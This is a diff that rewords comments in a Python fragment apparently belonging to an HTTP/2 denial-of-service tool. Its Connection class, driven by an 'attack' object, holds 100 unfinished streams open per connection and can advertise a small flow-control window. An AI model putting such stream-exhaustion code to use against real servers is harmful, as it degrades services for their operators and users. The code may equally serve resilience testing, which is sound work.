@@ -1,4 +1,4 @@
-# HTTP/2 connections full of streams that do not end (Debian's python3-h2).
+# HTTP/2 connections full of unfinished streams (uses Debian's python3-h2).
 import select, time
 import h2.config, h2.connection, h2.errors, h2.events, h2.exceptions, h2.settings
 
@@ -7,14 +7,14 @@ REOPENED = 50
 
 
 class Connection:
-    """Keeps 100 streams open, each made by `begin(connection, stream)`."""
+    """Keeps 100 streams open, each created by `begin(connection, stream)`."""
 
     def __init__(self, attack, number, window=None):
         self.attack, self.window = attack, window
         self.socket = attack.connect(number, protocol="h2", timeout=10)
         self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
         if window is not None:
-            # In the first settings: the server knows it before the first request.
+            # Part of the first SETTINGS frame, so that the server knows the window before the first request.
             self.h2.local_settings = h2.settings.Settings(client=True, initial_values={
                 h2.settings.SettingCodes.ENABLE_PUSH: 0, h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
         self.h2.initiate_connection()
